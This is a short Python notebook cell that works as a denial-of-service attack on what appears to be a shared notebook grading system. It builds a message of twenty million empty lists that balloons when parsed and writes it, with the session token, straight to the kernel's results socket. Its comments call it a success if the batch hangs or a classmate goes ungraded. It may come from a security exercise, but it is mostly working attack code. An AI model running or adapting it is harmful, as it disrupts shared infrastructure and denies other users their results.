# Sends a message of twenty million empty lists, which take far more room when they are read.
# Success: the batch hangs, or a classmate is not graded.
# %% last
import struct

session = get_ipython().kernel.session
data = b'{"type": "display_data", "parent": null, "content": [' + b"[]," * 20_000_000 + b"[]]}"
attempt(lambda: session.results.sendall(session.token + struct.pack("!I", len(data)) + data))
